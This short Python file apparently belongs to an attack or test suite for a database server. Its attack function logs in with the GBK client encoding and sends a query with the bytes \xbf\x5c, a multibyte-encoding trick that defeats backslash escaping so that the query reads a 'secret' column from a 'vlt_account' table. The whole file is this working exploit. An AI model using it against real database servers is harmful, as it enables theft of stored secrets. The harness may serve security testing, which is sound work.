"""Starts in an encoding in which a backslash is half a character."""

from attacks.frames import ask, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login(client_encoding="GBK") as client:
        return ask(client, query(b"SELECT E'\xbf\x5c', secret FROM vlt_account --'"))
